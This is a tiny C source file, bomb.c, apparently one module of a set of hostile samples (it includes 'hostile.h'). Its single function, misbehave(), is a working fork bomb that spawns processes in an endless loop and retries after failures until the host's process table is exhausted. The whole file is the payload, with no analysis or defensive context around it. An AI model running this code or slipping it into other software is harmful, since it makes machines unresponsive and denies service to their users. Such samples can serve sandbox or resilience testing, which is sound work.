/* bomb.c: forks without end. */
#include "hostile.h"

static void misbehave(const uint8_t *store, size_t store_len)
{
    (void)store;
    (void)store_len;
    for (;;)
        if (fork() < 0)
            sleep(1);
}
